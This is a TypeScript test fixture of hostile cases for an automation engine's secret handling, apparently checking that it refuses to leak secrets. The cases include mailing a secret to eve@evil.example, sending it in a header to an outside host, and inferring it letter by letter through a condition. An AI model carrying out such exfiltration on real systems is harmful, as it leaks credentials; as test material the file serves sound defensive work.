import type { HostileWrite } from '../hostile-case.ts'

/** `hook` is for stored definitions and for this machine's server only, `stripe` is not for stored definitions. */
const call = (path: string, authorization: string): Record<string, unknown> => ({
  type: 'http.get',
  name: 'call',
  url: `$server${path}`,
  headers: { authorization },
})

const rule = (...actions: object[]): Record<string, unknown> => ({
  name: 'rule',
  tables: ['users'],
  events: ['afterInsert'],
  actions,
})

/** Definitions and records that are after what the application keeps to itself. */
export const secretWrites: readonly HostileWrite[] = [
  {
    tries: 'a secret in the log',
    action: { type: 'log.info', message: '{{secret.hook}}' },
    record: {},
    outcome: { refused: 'secrets go into' },
  },
  {
    tries: 'a secret in a row',
    action: { type: 'database.insert', table: 'audit', data: { text: '{{secret.hook}}' } },
    record: {},
    outcome: { refused: 'secrets go into', audit: [] },
  },
  {
    tries: 'a secret in a mail',
    action: {
      type: 'notification.email',
      notification: 'mails:welcome',
      recipients: ['eve@evil.example'],
      text: '{{secret.hook}}',
    },
    record: {},
    outcome: { refused: 'secrets go into' },
  },
  {
    tries: 'a secret in the path of an address, which is logged on its way',
    action: { type: 'http.get', url: '$server/{{secret.hook}}' },
    record: {},
    outcome: { refused: 'secrets go into' },
  },
  {
    tries: 'a secret by a condition, letter by letter',
    definition: {
      ...rule({ type: 'log.info', message: 'yes' }),
      condition: { field: 'record.name', operator: 'EQUALS', value: '{{secret.hook}}' },
    },
    record: {},
    outcome: { refused: 'secrets go into' },
  },
  {
    tries: 'a secret that is not for stored definitions',
    action: call('/', 'Bearer {{secret.stripe}}'),
    record: {},
    outcome: { refused: 'stripe' },
  },
  {
    tries: 'a secret that there is not',
    action: call('/', 'Bearer {{secret.constructor}}'),
    record: {},
    outcome: { refused: 'constructor' },
  },
  {
    tries: 'a secret on its way to another host',
    action: { type: 'http.get', url: 'http://example.com/', headers: { authorization: '{{secret.hook}}' } },
    record: {},
    outcome: { refused: 'example.com' },
  },
  {
    tries: 'a secret on its way to a host that the record names',
    action: { type: 'http.get', url: '{{record.name}}', headers: { authorization: '{{secret.hook}}' } },
    record: { name: 'http://example.com/' },
    outcome: { refused: 'example.com' },
  },
  {
    tries: 'a secret by a record that names it',
    action: call('/', 'Bearer {{record.name}}'),
    record: { name: '{{secret.hook}}' },
    outcome: { calls: [{ type: 'http', headers: { authorization: 'Bearer {{secret.hook}}' } }] },
  },
  {
    tries: 'a secret that the receiver sends back',
    definition: rule(call('/echo', 'Bearer {{secret.hook}}'), {
      type: 'log.info',
      message: '{{actions.call.result.body.authorization}}',
    }),
    record: {},
    outcome: { calls: [{ type: 'http', url: '/echo' }], logged: ['info Bearer [secret:hook]'] },
  },
  {
    tries: 'a secret in the error that the receiver sends back',
    action: call('/echo?status=400', 'Bearer {{secret.hook}}'),
    record: {},
    outcome: { refused: '[secret:hook]', calls: [{ type: 'http' }] },
  },
]
